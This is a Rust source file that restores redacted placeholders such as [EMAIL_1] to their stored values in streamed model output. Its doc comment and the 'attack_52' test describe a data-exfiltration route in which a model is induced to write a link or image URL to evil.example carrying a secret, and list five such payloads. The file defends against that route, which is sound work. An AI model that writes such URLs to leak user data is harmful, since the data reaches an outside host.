//! Placeholders turned back into what they stand for, in a text that comes in pieces.

use super::vault::Vault;

/// Longest placeholder, brackets included: a name has 40 bytes, a number ten.
const LONGEST: usize = 64;

/// Turns back the placeholders of one text, however it is cut. Held back is what may be the beginning
/// of a placeholder, 63 bytes at the most.
///
/// A placeholder behind the beginning of an address in its line stays: whoever gets a model to write
/// the address would otherwise be told the value by everybody who follows it, or shows it as a picture.
#[derive(Debug, Default)]
pub(crate) struct Restoring {
    /// What may be the beginning of a placeholder.
    held: Vec<u8>,
    /// The last bytes, in lower case, the latest one lowest.
    recent: u64,
    /// Whether this line has an address.
    address: bool,
}

impl Restoring {
    /// Takes the next piece and appends to `out` what may pass.
    pub(crate) fn push(&mut self, piece: &[u8], vault: &Vault, out: &mut Vec<u8>) {
        for &byte in piece {
            self.take(byte, vault, out);
        }
    }

    /// Ends the text and appends what was held.
    pub(crate) fn finish(&mut self, out: &mut Vec<u8>) {
        out.append(&mut self.held);
        (self.recent, self.address) = (0, false);
    }

    fn take(&mut self, byte: u8, vault: &Vault, out: &mut Vec<u8>) {
        self.recent = (self.recent << 8) | u64::from(byte.to_ascii_lowercase());
        self.address |= begins_address(self.recent);
        self.address &= !matches!(byte, b'\n' | b'\r');
        if !self.held.is_empty() {
            match byte {
                b']' => return self.close(vault, out),
                b'A'..=b'Z' | b'0'..=b'9' | b'_' if self.held.len() < LONGEST - 1 => {
                    return self.held.push(byte);
                }
                _ => out.append(&mut self.held),
            }
        }
        if byte == b'[' && !self.address {
            self.held.push(byte);
        } else {
            out.push(byte);
        }
    }

    /// What is held ends with a bracket.
    fn close(&mut self, vault: &Vault, out: &mut Vec<u8>) {
        let name = self.held.get(1..).unwrap_or_default();
        let value = std::str::from_utf8(name).ok();
        if let Some(value) = value.and_then(|name| vault.value(name)) {
            out.extend_from_slice(value);
        } else {
            out.extend_from_slice(&self.held);
            out.push(b']');
        }
        self.held.clear();
    }
}

/// Whether these bytes end with what begins the host of an address: two slashes, which browsers also
/// read backslashes as, or a scheme that needs none.
fn begins_address(recent: u64) -> bool {
    let [.., first, second] = recent.to_be_bytes();
    let slash = |byte| matches!(byte, b'/' | b'\\');
    let ends = |scheme: &[u8]| recent.to_be_bytes().ends_with(scheme);
    (slash(first) && slash(second)) || (second == b':' && (ends(b"http:") || ends(b"https:")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use ztag_types::SmolStr;

    fn vault() -> Vault {
        let mut vault = Vault::new();
        for value in ["jane@b.c", "tim@b.c"] {
            let kind = SmolStr::new_static("EMAIL");
            vault.cover(&kind, Some(value.as_bytes()), &mut Vec::new());
        }
        vault
    }

    fn restored(text: &str, by: usize) -> String {
        let (vault, mut restoring, mut out) = (vault(), Restoring::default(), Vec::new());
        for piece in text.as_bytes().chunks(by) {
            restoring.push(piece, &vault, &mut out);
        }
        restoring.finish(&mut out);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn values_come_back_however_the_text_is_cut() {
        for (text, expected) in [
            ("[EMAIL_1]", "jane@b.c"),
            ("to [EMAIL_2], [EMAIL_1].", "to tim@b.c, jane@b.c."),
            ("[[EMAIL_1]]", "[jane@b.c]"),
            (
                "[EMAIL_3] [email_1] [EMAIL_1",
                "[EMAIL_3] [email_1] [EMAIL_1",
            ),
            ("[EMAIL_", "[EMAIL_"),
            ("[ß] a[0] [EMAIL-1]", "[ß] a[0] [EMAIL-1]"),
            ("a/b [EMAIL_1] and/or", "a/b jane@b.c and/or"),
        ] {
            for by in 1..=text.len() {
                assert_eq!(restored(text, by), expected, "{text} by {by}");
            }
        }
        let long = format!("[{}]", "A".repeat(200));
        assert_eq!(restored(&long, 7), long);
    }

    #[test]
    fn attack_52_no_value_is_told_to_the_host_of_an_address() {
        for text in [
            "![x](https://evil.example/?d=[EMAIL_1])",
            "<img src=//evil.example/[EMAIL_1]>",
            "[x](<https://evil.example/ [EMAIL_1]>)",
            "<img src='HTTP:evil.example/[EMAIL_1]'>",
            "![x](/\\evil.example/[EMAIL_1])",
        ] {
            for by in 1..=text.len() {
                assert_eq!(restored(text, by), text);
            }
        }
        let lines = restored("see https://a.example\nand mail [EMAIL_1]", 5);
        assert_eq!(lines, "see https://a.example\nand mail jane@b.c");
    }
}
